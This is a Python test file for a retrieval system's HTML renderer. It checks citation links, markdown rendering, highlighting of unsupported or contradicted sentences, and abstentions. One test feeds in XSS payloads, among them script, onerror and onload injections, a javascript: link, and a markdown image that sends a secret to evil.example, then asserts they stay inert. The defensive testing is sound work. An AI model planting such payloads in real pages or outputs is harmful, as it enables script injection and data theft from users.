from typing import Any

import pytest
from starlette.testclient import TestClient

from api.rendering import to_html
from retrieval.types import Answer, Citation, Outcome, Statement, Usage


def _answer(
    text: str, *statements: Statement, notes: int = 2, model: str = "llama", abstained: bool = False
) -> Answer:
    citations = tuple(
        Citation(number, "d", "v", "u", "t", 0, 1, "q", None, True, 1.0)
        for number in range(1, notes + 1)
    )
    return Answer(
        query="q",
        text=text,
        citations=() if abstained else citations,
        closest=(),
        statements=statements,
        hits=(),
        abstained=abstained,
        confidence=0.9,
        model=model,
        usage=Usage(1, 1),
        timings={},
    )


def test_marks_lead_to_their_notes_and_others_stay_text() -> None:
    shown = to_html(_answer("Tea is at four. [1][2] So they say. [7]"))
    assert shown.count('<a class="mark" href="#note-') == 2
    assert "So they say. [7]" in shown


def test_markdown_is_rendered() -> None:
    shown = to_html(_answer("# Tea\n\n- **four** [1]\n- `code [1]`\n\n| a |\n|---|\n| 1 |"))
    for piece in (
        "<h4>Tea</h4>",
        "<li><strong>four</strong><sup>",
        "<code>code [1]</code>",
        "<td>",
    ):
        assert piece in shown


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<https://evil.example>",
        "[a]: https://evil.example\n\n[a]",
        "<svg/onload=alert(1)>",
        "```html\n<iframe src=//evil.example></iframe>\n```",
        '<a href="#note-1" onclick="alert(1)">1</a>',
        "&lt;script&gt;",
    ],
)
@pytest.mark.parametrize("model", ["llama", "extractive"])
def test_nothing_of_a_model_or_a_document_becomes_markup(attack: str, model: str) -> None:
    shown = to_html(_answer(f"{attack} [1]", model=model))
    for tag in ("<script", "<img", "<svg", "<iframe", "<a href", "<a onclick"):
        assert tag not in shown.lower()
    assert shown.count("<a ") == shown.count('<a class="mark" href="#note-1">')


def test_a_sentence_without_support_is_told_apart_through_its_markup() -> None:
    shown = to_html(
        _answer(
            "It is **12 %**. [1] The *rest is* 40 %.\n\n- All `of it` is blue.",
            Statement("It is **12 %**.", Outcome.VERIFIED, (1,)),
            Statement("The *rest is* 40 %.", Outcome.UNSUPPORTED, ()),
            Statement("- All `of it` is blue.", Outcome.CONTRADICTED, ()),
        )
    )
    assert '<em><span class="unsupported">rest is</span></em>' in shown
    assert '<span class="contradicted"><code>of it</code></span>' in shown
    assert "<strong>12 %</strong>." in shown


def test_the_second_of_two_equal_sentences_can_be_the_doubtful_one() -> None:
    shown = to_html(
        _answer(
            "It rains. [1] It rains.",
            Statement("It rains.", Outcome.VERIFIED, (1,)),
            Statement("It rains.", Outcome.UNSUPPORTED, ()),
        )
    )
    assert shown.startswith("<p>It rains.<sup>")
    assert shown.rstrip().endswith('<span class="unsupported">It rains.</span></p>')


def test_quotes_and_abstentions_are_text_whatever_they_look_like() -> None:
    quoted = to_html(_answer("# *not* a heading [1]\n第二句。 [2]", model="extractive"))
    assert quoted.startswith("<p># *not* a heading<sup>")
    assert "<p>第二句。<sup>" in quoted
    abstained = to_html(_answer("I found *nothing* [1].", abstained=True))
    assert abstained == "<p>I found *nothing* [1].</p>"


def test_html_is_given_where_it_is_asked_for(shared: TestClient) -> None:
    asked: dict[str, Any] = {"question": "How long does the warranty of the Kestrel last?"}
    assert shared.post("/kb/kb/ask", json=asked).json()["html"] is None
    html = shared.post("/kb/kb/ask", json={**asked, "html": True}).json()["html"]
    assert '<a class="mark" href="#note-1">1</a>' in html
